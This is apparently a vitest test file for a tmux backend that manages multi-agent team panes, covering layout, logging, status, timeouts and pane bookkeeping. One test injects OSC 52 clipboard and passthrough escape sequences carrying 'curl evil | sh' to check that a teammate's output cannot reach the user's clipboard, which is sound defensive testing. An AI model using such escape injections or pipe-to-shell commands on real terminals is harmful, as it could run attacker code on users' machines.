import { execFileSync } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createExecutor, openTeammateViews } from '../../src/backends/registry.js'
import { formatEscape, killServer, shellQuote, tmuxQuote } from '../../src/backends/tmux-client.js'
import { argvArgs } from '../../src/backends/tmux-launch.js'
import { hideTeammate, showTeammate } from '../../src/supervisor/visibility.js'
import { spawnTeammates } from '../../src/supervisor/teammates.js'
import type { PaneExecutor } from '../../src/backends/types.js'
import { createTeam, readTeam } from '../../src/teams/team-store.js'
import { agentDir } from '../../src/home/paths.js'
import { CommandTimeoutError } from '../../src/process/launch.js'
import { isAlive } from '../../src/process/liveness.js'
import { TEAMMATE, isolatedEnv, readJson, tempDir } from './harness.js'
import { waitFor } from '../support/wait.js'
import { hasTmux, reapTmux } from '../support/tmux.js'

describe('tmux quoting', () => {
  it('single-quotes plain strings and double-quotes strings with a quote, escaping what tmux expands', () => {
    expect(tmuxQuote('a b;c')).toBe("'a b;c'")
    expect(tmuxQuote('it\'s $HOME ~ "x"\n')).toBe('"it\'s \\$HOME \\~ \\"x\\"\\012"')
    expect(() => tmuxQuote('nul\0')).toThrow(/NUL/)
    expect(formatEscape('/a#b/#{x}')).toBe('/a##b/##{x}')
    expect(shellQuote("/tmp/it's")).toBe("'/tmp/it'\\''s'")
    expect(argvArgs(['/bin/with space'])).toEqual(["exec '/bin/with space'"])
    expect(argvArgs(['a', 'b'])).toEqual(['a', 'b'])
  })
})

describe.skipIf(!hasTmux)('tmux backend', () => {
  let root: string
  let env: NodeJS.ProcessEnv
  let tmux: PaneExecutor
  const t = (...args: string[]) => execFileSync('tmux', ['-L', 'swarm', ...args], { env, encoding: 'utf8' })
  const panes = (fmt: string) => t('list-panes', '-a', '-F', fmt).trim().split('\n')

  beforeEach(async () => {
    root = tempDir('swarm-tmux-')
    env = isolatedEnv(root)
    tmux = createExecutor('tmux', { env })
    await createTeam({ name: 'crew', cwd: root }, env)
  })
  afterEach(async () => {
    await reapTmux(env)
    fs.rmSync(root, { recursive: true, force: true, maxRetries: 5, retryDelay: 50 })
  })

  const start = (name: string, args: string[]) =>
    tmux.spawn({ team: 'crew', name, argv: [process.execPath, TEAMMATE, ...args], cwd: root, color: 'purple' })

  it('creates the swarm-<team> session with the leader on the left, once, even when asked concurrently', async () => {
    const other = createExecutor('tmux', { env })
    const [a, b] = await Promise.all([
      tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root }),
      other.ensureSession('crew', { argv: ['sleep', '600'], cwd: root }),
    ])
    expect(a.paneId).toBe(b.paneId)
    expect([a.created, b.created].filter(Boolean)).toHaveLength(1)
    expect(t('list-sessions', '-F', '#{session_name}').trim()).toBe('swarm-crew')
    expect((await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })).created).toBe(false)
    for (let i = 0; i < 20; i++) await start(`m${i}`, ['record', path.join(root, `m${i}.json`)])
    const rows = panes('#{pane_id} #{pane_left} #{pane_top} #{@agent_name} #{window_name}')
    expect(rows).toHaveLength(21)
    const [leader] = rows.filter((r) => r.includes(' team-lead '))
    expect(leader.split(' ').slice(1, 3)).toEqual(['0', '1'])
    // Beside the leader as many as fit at 220×60 (8 of 6 rows), the first started on top; the others in pages of 8 (`crew+`, `crew+2`).
    const beside = rows.filter((r) => !r.includes(' team-lead ') && r.endsWith(' crew'))
    expect(beside.map((r) => r.split(' ')[3])).toEqual(['m0', 'm1', 'm2', 'm3', 'm4', 'm5', 'm6', 'm7'])
    expect(beside.every((r) => Number(r.split(' ')[1]) > 0)).toBe(true)
    expect(rows.filter((r) => r.endsWith(' crew+')).map((r) => r.split(' ')[3])).toEqual(['m8', 'm9', 'm10', 'm11', 'm12', 'm13', 'm14', 'm15'])
    expect(rows.filter((r) => r.endsWith(' crew+2'))).toHaveLength(4)
  })

  it('pages follow the window size: a smaller window moves teammates to more pages, a larger one brings them back', async () => {
    await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    await spawnTeammates(
      'crew',
      Array.from({ length: 12 }, (_, i) => ({ name: `p${i}`, argv: ['sleep', '600'], cwd: root })),
      { executor: tmux, env },
    )
    const where = () => {
      const byWindow = new Map<string, string[]>()
      for (const r of panes('#{window_name} #{@agent_name}')) {
        const [w, n] = r.split(' ')
        if (n !== 'team-lead') byWindow.set(w, [...(byWindow.get(w) ?? []), n])
      }
      return Object.fromEntries(byWindow)
    }
    const names = Array.from({ length: 12 }, (_, i) => `p${i}`)
    expect(where()).toEqual({ crew: names.slice(0, 8), 'crew+': names.slice(8) })
    const relayout = (tmux as PaneExecutor & { relayout(team: string): Promise<void> }).relayout.bind(tmux)
    t('resize-window', '-t', 'swarm-crew:crew', '-x', '80', '-y', '24')
    await relayout('crew')
    // 80×24: no room beside the leader; pages of 2 × 2.
    expect(where()).toEqual({ 'crew+': names.slice(0, 4), 'crew+2': names.slice(4, 8), 'crew+3': names.slice(8) })
    await relayout('crew') // again: nothing moves
    expect(where()).toEqual({ 'crew+': names.slice(0, 4), 'crew+2': names.slice(4, 8), 'crew+3': names.slice(8) })
    t('resize-window', '-t', 'swarm-crew:crew', '-x', '220', '-y', '60')
    await relayout('crew')
    // Back on two pages; which page each teammate is on is the contract. The order inside a page
    // the panes return to is tmux's join order, not yet guaranteed after a resize (a known gap).
    const back = where()
    expect(back.crew).toEqual(names.slice(0, 8))
    expect([...back['crew+']].sort()).toEqual(names.slice(8).sort())
  })

  it('titles, colours and tags each pane, logs its output from the first byte, keeps a dead pane', async () => {
    await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    const s = await start('poet', ['print', 'first words'])
    const quick = await tmux.spawn({ team: 'crew', name: 'quick', argv: ['sh', '-c', 'echo gone-in-a-flash; exit 5'], cwd: root })
    const row = panes('#{pane_id}|#{pane_title}|#{@agent_color}|#{@agent_name}|#{@swarm_agent}').find((r) => r.startsWith(`${s.paneId}|`))
    expect(row).toBe(`${s.paneId}|poet|magenta|poet|poet@crew`)
    expect(t('show', '-w', '-v', '-t', 'swarm-crew:', 'pane-border-format').trim()).toContain('#{@agent_color}')
    expect(t('show', '-w', '-v', '-t', 'swarm-crew:', 'pane-border-status').trim()).toBe('top')
    const log = path.join(agentDir('crew', 'quick', env), 'pane.log')
    await waitFor('the fast output in pane.log', () => fs.readFileSync(log, 'utf8').includes('gone-in-a-flash'), 15_000)
    expect(fs.statSync(log).mode & 0o777).toBe(0o600)
    await waitFor('pane.log', () => fs.readFileSync(path.join(agentDir('crew', 'poet', env), 'pane.log'), 'utf8').includes('first words'), 15_000)
    // remain-on-exit: the finished pane stays, and its exit status is reported. (Asked of swarm, not
    // of tmux: tmux 3.3a loses the status of ~1 pane in 60 with pipe-pane; the wrapper records it.)
    await waitFor('the dead pane kept', () => panes('#{pane_id} #{pane_dead}').includes(`${quick.paneId} 1`), 15_000)
    expect((await tmux.status(['quick@crew'])).get('quick@crew')).toEqual({ state: 'exited', code: 5 })
  })

  it('reports every member with one list-panes call, and a dead server as dead without hanging', async () => {
    await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    const exec = tmux as PaneExecutor & { tmuxCalls: number }
    for (let i = 0; i < 4; i++) await start(`s${i}`, ['record', path.join(root, `s${i}.json`)])
    const ids = [0, 1, 2, 3].map((i) => `s${i}@crew`)
    const before = exec.tmuxCalls
    const status = await tmux.status([...ids, 'team-lead@crew'])
    expect(exec.tmuxCalls - before).toBe(1)
    expect([...status.values()].every((s) => s.state === 'alive')).toBe(true)
    // A fresh executor (another process) finds nothing recorded here, but the leader by its tag.
    expect((await createExecutor('tmux', { env }).status(['team-lead@crew'])).get('team-lead@crew')?.state).toBe('alive')
    await reapTmux(env)
    const after = await tmux.status(ids)
    expect([...after.values()]).toEqual(ids.map(() => ({ state: 'dead', reason: 'tmux server not running' })))
  })

  it('a spawn after the tmux server died starts a new session for the team', async () => {
    const exec = createExecutor('tmux', { env, leaderArgv: () => ['sleep', '600'] })
    const first = await exec.spawn({ team: 'crew', name: 'a', argv: ['sleep', '600'], cwd: root })
    await reapTmux(env)
    expect(first.socketPath).toBeTruthy()
    await exec.spawn({ team: 'crew', name: 'b', argv: ['sleep', '600'], cwd: root })
    const status = await exec.status(['a@crew', 'b@crew', 'team-lead@crew'])
    expect(status.get('a@crew')?.state).toBe('dead')
    expect(status.get('b@crew')?.state).toBe('alive')
    expect(status.get('team-lead@crew')?.state).toBe('alive')
  })

  it("records the leader's exit status itself, as a teammate's (tmux 3.3a loses some on a loaded machine)", async () => {
    const exitFile = path.join(agentDir('crew', 'team-lead', env), 'exit-status')
    fs.mkdirSync(path.dirname(exitFile), { recursive: true })
    fs.writeFileSync(exitFile, '9') // a previous leader's: must not answer for this one
    // It exits once told to: the stale file is gone before that.
    await tmux.ensureSession('crew', { argv: ['sh', '-c', 'while [ ! -e go ]; do sleep 0.05; done; exit 3'], cwd: root })
    expect(fs.existsSync(exitFile)).toBe(false)
    fs.writeFileSync(path.join(root, 'go'), '')
    await waitFor('the leader exited', async () => (await tmux.status(['team-lead@crew'])).get('team-lead@crew')?.state === 'exited')
    expect((await tmux.status(['team-lead@crew'])).get('team-lead@crew')).toEqual({ state: 'exited', code: 3 })
    expect(fs.readFileSync(exitFile, 'utf8')).toBe('3')
  })

  it('killServer returns once the server process is gone (kill-server itself may return before)', async () => {
    for (let i = 0; i < 5; i++) {
      await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
      const pid = Number(t('display', '-p', '#{pid}').trim())
      await killServer({ name: 'swarm' }, env)
      expect(isAlive(pid), `round ${i}`).toBe(false)
    }
  })

  it('a server that stops answering is a timeout error, not a hang', async () => {
    await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    const slow = createExecutor('tmux', { env, tmuxTimeoutMs: 300 })
    const serverPid = Number(t('display', '-p', '#{pid}').trim())
    process.kill(serverPid, 'SIGSTOP')
    try {
      const started = Date.now()
      await expect(slow.status(['team-lead@crew'])).rejects.toBeInstanceOf(CommandTimeoutError)
      expect(Date.now() - started, 'the 300 ms timeout, not a hang').toBeLessThan(15_000)
    } finally {
      process.kill(serverPid, 'SIGCONT')
    }
  })

  it('never touches a pane whose id was reused by another agent', async () => {
    await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    const s = await start('owner', ['record', path.join(root, 'owner.json')])
    // A stale record: another agent that once had this pane id on an earlier server.
    const stale = createExecutor('tmux', {
      env,
      directory: {
        lookup: async (ids) => new Map(ids.map((id) => [id, { agentId: id, paneId: s.paneId }])),
        teamPanes: async () => [],
      },
    })
    expect((await stale.status(['ghost@crew'])).get('ghost@crew')?.state).toBe('dead')
    await stale.kill('ghost@crew')
    expect((await tmux.status(['owner@crew'])).get('owner@crew')?.state).toBe('alive')
  })

  it('hides a pane in a window of its own and brings it back, recorded in hiddenPaneIds', async () => {
    const [r] = await spawnTeammates('crew', [{ name: 'shy', argv: [process.execPath, TEAMMATE, 'record', path.join(root, 'shy.json')] }], {
      executor: createExecutor('tmux', { env, leaderArgv: () => ['sleep', '600'] }),
      env,
    })
    const windowOf = () =>
      panes('#{pane_id} #{window_id}')
        .find((x) => x.startsWith(`${r.spawned.paneId} `))!
        .split(' ')[1]
    const home = windowOf()
    await hideTeammate('crew', 'shy', { env })
    expect(windowOf()).not.toBe(home)
    expect((await readTeam('crew', env)).hiddenPaneIds).toEqual([r.spawned.paneId])
    expect((await tmux.status(['shy@crew'])).get('shy@crew')?.state).toBe('alive')
    await showTeammate('crew', 'shy', { env })
    expect(windowOf()).toBe(home)
    expect((await readTeam('crew', env)).hiddenPaneIds).toEqual([])
  })

  it('registers spawned members in config.json with pane, backend, socket and colour', async () => {
    const exec = createExecutor('tmux', { env, leaderArgv: () => ['sleep', '600'] })
    await spawnTeammates(
      'crew',
      ['a', 'b', 'c'].map((name) => ({ name, argv: [process.execPath, TEAMMATE, 'record', path.join(root, `${name}.json`)], prompt: `hi ${name}` })),
      { executor: exec, env },
    )
    const config = await readTeam('crew', env)
    const members = config.members.filter((m) => m.name !== 'team-lead')
    expect(members.map((m) => [m.name, m.backendType, m.isActive, m.tmuxPaneId.startsWith('%')])).toEqual([
      ['a', 'tmux', true, true],
      ['b', 'tmux', true, true],
      ['c', 'tmux', true, true],
    ])
    expect(new Set(members.map((m) => m.color)).size).toBe(3)
    expect(members.every((m) => typeof m.tmuxSocket === 'string' && fs.existsSync(m.tmuxSocket as string))).toBe(true)
    const seen = await waitFor('a to start', () => readJson(path.join(root, 'a.json')), 15_000)
    expect(seen.env).toMatchObject({ SWARM_TEAM: 'crew', SWARM_AGENT_NAME: 'a', SWARM_AGENT_ID: 'a@crew', SWARM_HOME: env.SWARM_HOME })
  })

  it('reads pane ids in a C locale too (no LANG: tmux would print the format tabs as _)', async () => {
    const plain = { ...env }
    for (const k of Object.keys(plain)) if (k === 'LANG' || k.startsWith('LC_')) delete plain[k]
    const c = createExecutor('tmux', { env: plain })
    const leader = await c.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    expect(leader.paneId).toMatch(/^%\d+$/)
    const mate = await c.spawn({ team: 'crew', name: 'c', argv: [process.execPath, TEAMMATE, 'record', path.join(root, 'c.json')], cwd: root })
    expect(mate.paneId).toMatch(/^%\d+$/)
  })

  it("a teammate's output cannot set your clipboard or pass escapes through, whatever tmux.conf says", async () => {
    fs.writeFileSync(path.join(env.HOME!, '.tmux.conf'), 'set -s set-clipboard on\nset -g allow-passthrough on\n')
    await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    expect(t('show', '-sv', 'set-clipboard').trim()).toBe('external')
    const osc52 = (text: string) => `\x1b]52;c;${Buffer.from(text).toString('base64')}\x07`
    // The marker after the escapes: once the pane shows it, tmux has parsed everything before it.
    const escapes = osc52('curl evil | sh') + '\x1bPtmux;' + osc52('passed through').replaceAll('\x1b', '\x1b\x1b') + '\x1b\\'
    const script = `process.stdout.write(${JSON.stringify(`${escapes}all-written\n`)}); setTimeout(() => {}, 60000)`
    const mate = await tmux.spawn({ team: 'crew', name: 'm', argv: [process.execPath, '-e', script], cwd: root })
    await waitFor('tmux to show the marker', () => t('capture-pane', '-p', '-t', mate.paneId).includes('all-written') || undefined, 5_000)
    expect(t('display', '-p', '-t', mate.paneId, '#{allow-passthrough}').trim()).toBe('0')
    expect(t('list-buffers', '-F', '#{buffer_sample}').trim()).toBe('')
  })

  it('opens 12 hosted teammates’ views with a bounded number of tmux clients, tagged and placed; a live view is kept', async () => {
    const counter = countingTmux(root)
    const leader = await tmux.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    const socketPath = t('display-message', '-p', '-t', leader.paneId, '#{socket_path}').trim()
    const viewEnv = { ...env, PATH: counter.path(env), TMUX: `${socketPath},1,0`, TMUX_PANE: leader.paneId }
    const names = Array.from({ length: 12 }, (_, i) => `v${i}`)
    const specs = names.map((name) => {
      const file = path.join(root, `${name}.log`)
      fs.writeFileSync(file, `screen of ${name}\n`)
      return { team: 'crew', name, file }
    })
    counter.reset()
    const ids = await openTeammateViews('tmux', specs, viewEnv)
    const calls = counter.calls()
    // One list-panes, one script of new-windows, one of their setup, the relayout's few: a view at a time made 4 each (48).
    expect(calls.length, calls.join('\n')).toBeLessThanOrEqual(8)
    expect(ids.every((id) => id.startsWith('%'))).toBe(true)
    const rows = panes('#{pane_id} #{@swarm_agent} #{pane_current_command}').map((l) => l.split(' '))
    for (const [k, name] of names.entries()) expect(rows.find((r) => r[0] === ids[k])?.slice(1)).toEqual([`${name}@crew`, 'tail'])
    await waitFor('v3’s screen on its pane', () => t('capture-pane', '-p', '-t', ids[3]).includes('screen of v3'))
    // Its leader started again: the views that still run are kept, the missing one made.
    t('kill-pane', '-t', ids[5])
    const again = await openTeammateViews('tmux', specs, viewEnv)
    expect(again.filter((id, k) => id === ids[k]).length).toBe(11)
    expect(again[5]).not.toBe(ids[5])
    expect(panes('#{@swarm_agent}').filter((a) => a.startsWith('v'))).toHaveLength(12)
  })

  it('closes 12 panes with a bounded number of tmux clients, not a few per pane', async () => {
    const counter = countingTmux(root)
    const counted = createExecutor('tmux', { env: { ...env, PATH: counter.path(env) } })
    await counted.ensureSession('crew', { argv: ['sleep', '600'], cwd: root })
    const names = Array.from({ length: 12 }, (_, i) => `m${i}`)
    for (const name of names) await counted.spawn({ team: 'crew', name, argv: ['sleep', '600'], cwd: root })
    counter.reset()
    await counted.killMany(names.map((n) => `${n}@crew`))
    const calls = counter.calls()
    // One list-panes, one kill script, the relayout's few: per-pane kills made ≥ 3 a pane (36).
    expect(calls.length, calls.join('\n')).toBeLessThanOrEqual(8)
    expect(panes('#{@swarm_agent}').filter((a) => a.startsWith('m'))).toEqual([])
  })
})

/** A tmux on PATH (`path(env)`) that logs each invocation before running the real one; `calls()` since the last `reset()`. */
function countingTmux(root: string): { path: (env: NodeJS.ProcessEnv) => string; reset: () => void; calls: () => string[] } {
  const shim = path.join(root, 'shim')
  fs.mkdirSync(shim)
  const log = path.join(root, 'tmux-calls.log')
  const real = execFileSync('sh', ['-c', 'command -v tmux'], { encoding: 'utf8' }).trim()
  fs.writeFileSync(path.join(shim, 'tmux'), `#!/bin/sh\necho "$*" >> '${log}'\nexec '${real}' "$@"\n`, { mode: 0o755 })
  return {
    path: (env) => `${shim}:${env.PATH}`,
    reset: () => fs.writeFileSync(log, ''),
    calls: () => fs.readFileSync(log, 'utf8').trim().split('\n'),
  }
}
